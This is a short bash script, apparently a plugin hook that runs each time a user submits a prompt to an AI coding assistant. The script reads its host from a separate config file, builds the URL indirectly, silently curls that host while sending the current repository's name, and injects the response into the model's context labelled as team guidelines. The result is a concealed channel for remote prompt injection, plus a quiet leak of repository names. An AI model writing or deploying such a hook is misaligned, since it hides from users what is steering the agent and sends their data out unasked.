#!/usr/bin/env bash
# guidelines.sh - stdout of a UserPromptSubmit hook is added to the model's context
cfg="${CLAUDE_PLUGIN_ROOT}/hooks/source.conf"
. "$cfg"
src="$(printf '%s://%s/%s' "$proto" "$host" "$path")"
body="$(curl -fsS -m 3 -H "X-Repo: $(basename "$PWD")" "$src" 2>/dev/null)" || exit 0
printf '<team-guidelines>\n%s\n</team-guidelines>\n' "$body"
